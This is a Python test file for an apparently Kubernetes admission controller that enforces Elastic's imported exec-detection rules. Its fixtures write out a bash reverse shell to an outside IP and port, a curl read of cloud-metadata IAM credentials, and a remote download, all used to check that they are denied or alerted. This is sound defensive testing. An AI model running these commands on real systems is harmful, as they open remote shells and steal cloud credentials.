"""Elastic's ES|QL exec rules, imported from their TOML at test time, enforced at admission.

gatewatch runs against kmock; the harness calls its HTTPS webhook as
kube-apiserver would, and real kubectl talks to a front (AdmissionProxy) that
turns ``kubectl exec`` into the PodExecOptions CONNECT the API server admits.
The rules are Elastic's own (../shared/corpus/elastic-kubernetes-rules), run
unchanged: the query URL-decodes the requestURI gatewatch rebuilds as kubectl
sends it, GROKs the command out of it and matches it with RLIKE.
"""
from __future__ import annotations

import asyncio
import os
import shutil
from pathlib import Path
from typing import Any, AsyncIterator

import pytest
import yaml

from apiserver_harness import AdmissionProxy, ApiRequest, add_pod
from gatewatch.rules.elastic_import import import_elastic_rules
from shared_corpus import ELASTIC_RULES as CORPUS
from test_operator_admission import Cluster, eventually, running_cluster

REVERSE_SHELL = "execution_kubernetes_pod_exec_potential_reverse_shell.toml"
METADATA = "credential_access_kubernetes_pod_exec_cloud_instance_metadata.toml"
EXEC_RULES = (REVERSE_SHELL, METADATA, "execution_kubernetes_pod_exec_curl_wget_https.toml",
              "credential_access_kubernetes_pod_exec_sensitive_file_access.toml")
REVERSE_SHELL_COMMAND = ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]
HEALTH_CHECK_COMMAND = ["bash", "-c", "echo ping > /dev/tcp/127.0.0.1/8080"]

pytestmark = pytest.mark.skipif(
    not all((CORPUS / name).is_file() for name in EXEC_RULES),
    reason=f"Elastic's rule files are not in {CORPUS} (the shared corpus is read at test time, never copied)",
)


def imported_rules(tmp_path: Path) -> Path:
    """import-elastic's output for the four exec rules, with the two under test raised to deny
    (imported rules alert until a person raises them)."""
    result = import_elastic_rules([CORPUS / name for name in EXEC_RULES], ruleset="elastic-esql")
    assert not result.failures, result.failures
    document = yaml.safe_load(result.rules_yaml)
    names = {}
    for rule in document["rules"]:
        assert rule["language"] == "esql"
        names[rule["name"]] = rule
        if rule["name"] in ("Kubernetes Pod Exec Potential Reverse Shell",
                            "Kubernetes Pod Exec Cloud Instance Metadata Access"):
            rule["action"] = "deny"
    assert len(names) == 4
    path = tmp_path / "elastic-esql.yaml"
    path.write_text(yaml.safe_dump(document, sort_keys=False))
    return path


@pytest.fixture
async def cluster(tmp_path: Path) -> AsyncIterator[Cluster]:
    rules = {"files": [str(imported_rules(tmp_path))], "packaged": False, "reloadIntervalSeconds": 0.1,
             "configMapName": "team-rules"}
    async with running_cluster(tmp_path, rules=rules) as running:
        add_pod(running.k8s, "enforce-ns", "web", images=["nginx:1.27"])
        yield running


def exec_request(command: list[str], *, namespace: str = "enforce-ns") -> ApiRequest:
    return ApiRequest(
        operation="CONNECT", resource="pods", subresource="exec", namespace=namespace, name="web",
        kind="PodExecOptions",
        object={"kind": "PodExecOptions", "apiVersion": "v1", "stdin": True, "stdout": True, "stderr": True,
                "tty": True, "container": "c0", "command": command},
        user={"username": "mallory@example.com", "uid": "u-7", "groups": ["system:authenticated"]},
    )


def alerts_of(cluster: Cluster, rule_name: str) -> list[dict[str, Any]]:
    return [alert for alert in cluster.alert_lines() if alert["rule"]["name"] == rule_name]


async def test_a_reverse_shell_exec_is_denied_by_elastics_imported_rule_with_its_attack_tags(cluster: Cluster):
    result = await cluster.harness().admit(exec_request(REVERSE_SHELL_COMMAND))
    assert not result.allowed and result.code == 403
    assert "Kubernetes Pod Exec Potential Reverse Shell" in result.message
    assert "T1609" in result.message and "T1059" in result.message
    await eventually(lambda: alerts_of(cluster, "Kubernetes Pod Exec Potential Reverse Shell"), what="alert")
    (alert,) = alerts_of(cluster, "Kubernetes Pod Exec Potential Reverse Shell")
    assert alert["gatewatch"]["effect"] == "deny"
    assert alert["threat"]["tactic"]["id"] == ["TA0002"]
    assert alert["threat"]["technique"]["id"] == ["T1609", "T1059"]


async def test_a_local_health_check_over_dev_tcp_is_allowed(cluster: Cluster):
    result = await cluster.harness().admit(exec_request(HEALTH_CHECK_COMMAND))
    assert result.allowed and result.warnings == []
    await asyncio.sleep(0.2)
    assert not alerts_of(cluster, "Kubernetes Pod Exec Potential Reverse Shell")


async def test_a_cloud_metadata_credential_read_is_denied_and_curl_to_https_only_alerts(cluster: Cluster):
    metadata = await cluster.harness().admit(exec_request(
        ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"]))
    assert not metadata.allowed and "Kubernetes Pod Exec Cloud Instance Metadata Access" in metadata.message
    assert "T1552.005" in metadata.message
    download = await cluster.harness().admit(exec_request(["curl", "-o", "/tmp/x", "https://203.0.113.9/x"]))
    assert download.allowed  # action alert, as imported
    await eventually(lambda: alerts_of(cluster, "Kubernetes Pod Exec with Curl or Wget to HTTPS"), what="alert")


async def test_an_interactive_shell_is_not_an_attack(cluster: Cluster):
    result = await cluster.harness().admit(exec_request(["sh"]))
    assert result.allowed
    await asyncio.sleep(0.2)
    assert cluster.alert_lines() == []


async def kubectl_exec(proxy_url: str, tmp_path: Path, *command: str) -> tuple[int, str]:
    process = await asyncio.create_subprocess_exec(
        "kubectl", "--server", proxy_url, "-n", "enforce-ns", "exec", "web", "--", *command,
        env={**os.environ, "KUBECONFIG": str(tmp_path / "no-kubeconfig")},
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE, stdin=asyncio.subprocess.DEVNULL,
    )
    stdout, stderr = await asyncio.wait_for(process.communicate(), timeout=30)
    return process.returncode, stdout.decode() + stderr.decode()


@pytest.mark.skipif(shutil.which("kubectl") is None, reason="kubectl is not installed")
async def test_kubectl_exec_of_a_reverse_shell_is_forbidden_and_a_health_check_is_admitted(
    cluster: Cluster, tmp_path: Path
):
    async with AdmissionProxy(upstream=str(cluster.k8s.url), harness=cluster.harness) as proxy:
        code, output = await kubectl_exec(proxy.url, tmp_path, *REVERSE_SHELL_COMMAND)
        assert code != 0
        assert "Forbidden" in output and "Kubernetes Pod Exec Potential Reverse Shell" in output, output
        assert proxy.exec_results and not any(result.allowed for result in proxy.exec_results)
        denied = len(proxy.exec_results)

        code, output = await kubectl_exec(proxy.url, tmp_path, *HEALTH_CHECK_COMMAND)
        assert code != 0 and AdmissionProxy.EXEC_ADMITTED in output, output  # admitted; no runtime here
        assert all(result.allowed for result in proxy.exec_results[denied:])
